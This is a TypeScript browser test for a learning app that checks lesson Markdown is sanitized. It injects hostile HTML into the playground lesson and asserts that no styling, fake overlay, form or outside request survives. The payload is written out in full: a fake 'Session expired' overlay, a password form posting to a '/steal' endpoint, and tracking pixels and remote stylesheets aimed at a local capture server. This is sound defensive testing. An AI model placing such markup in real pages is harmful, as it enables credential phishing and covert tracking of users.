// Lesson Markdown cannot restyle the app, fake its UI or make a request
// leave the origin. The test puts hostile prose into the playground lesson as
// the built site bundles it (it rewrites the bundle on its way to the page,
// so no such lesson ships) and looks at what the learner's page became.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appUrl, launchBrowser } from './harness';

let leak: Server;
let leakOrigin = '';
const hits: string[] = [];
let browser: Browser;

beforeAll(async () => {
  leak = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.end();
  });
  await new Promise<void>((resolve) => leak.listen(0, '127.0.0.1', resolve));
  leakOrigin = `http://127.0.0.1:${(leak.address() as AddressInfo).port}`;
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await new Promise<void>((resolve) => leak.close(() => resolve()));
});

/** Hostile prose; single quotes only, no backticks: it goes into the bundle's template literal. */
function payload(): string {
  return [
    "<style>body { background: rgb(255, 0, 0) !important } .cell { display: none !important }</style>",
    '',
    "<p style='position:fixed;top:0;left:0;z-index:9999;background:white' id='overlay'>Session expired</p>",
    '',
    `<img src='${leakOrigin}/pixel.gif' alt='tracking pixel'> ![remote](${leakOrigin}/md.png) <img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' alt='inline dot'>`,
    '',
    `<form action='${leakOrigin}/steal'><input type='password' name='pw' placeholder='Password'><button>Log in</button></form>`,
    '',
    `<div style='background:url(${leakOrigin}/bg.png)'>styled</div> <link rel='stylesheet' href='${leakOrigin}/x.css'>`,
    '',
    'Read [the SQLite docs](https://sqlite.org/lang.html).',
    '',
  ].join('\n');
}

async function openHostileLesson(): Promise<Page> {
  const context = await browser.newContext();
  await context.route('**/assets/index-*.js', async (route) => {
    const response = await route.fetch();
    const body = await response.text();
    await route.fulfill({ response, body: body.replace('This notebook is yours to play with', `${payload()}\nThis notebook is yours to play with`) });
  });
  const page = await context.newPage();
  await page.goto(appUrl('#/lessons/playground'));
  await page.getByText('Session expired').waitFor({ timeout: 60_000 });
  return page;
}

describe('lesson Markdown', () => {
  it('applies no style, builds no form, and requests nothing from elsewhere', async () => {
    hits.length = 0;
    const page = await openHostileLesson();
    try {
      // The page is not restyled, and the "overlay" is ordinary text in the flow.
      expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).not.toBe('rgb(255, 0, 0)');
      expect(await page.getByText('Session expired').evaluate((el) => getComputedStyle(el).position)).toBe('static');
      expect(await page.getByText('styled', { exact: true }).evaluate((el) => el.getAttribute('style'))).toBeNull();
      const prose = page.locator('.markdown-cell');
      expect(await prose.locator('style, link, [style], [class]:not(code)').count()).toBe(0);
      expect(await page.locator('[role="region"]').first().isVisible()).toBe(true);
      // No form, password box or button from the lesson.
      expect(await prose.locator('form, input, button').count()).toBe(0);
      expect(await page.locator('input[type="password"]').count()).toBe(0);
      expect(await page.getByRole('button', { name: 'Log in' }).count()).toBe(0);
      // Remote images are gone from the DOM (not merely blocked by the CSP); a data: image stays.
      expect(await page.locator(`img[src^="${leakOrigin}"]`).count()).toBe(0);
      expect(await page.getByRole('img', { name: 'inline dot' }).count()).toBe(1);
      // External links stay links, in a new tab with no opener or referrer.
      const link = page.getByRole('link', { name: 'the SQLite docs' });
      expect(await link.getAttribute('target')).toBe('_blank');
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
      await page.waitForTimeout(500);
      expect(hits).toEqual([]);
    } finally {
      await page.context().close();
    }
  });
});
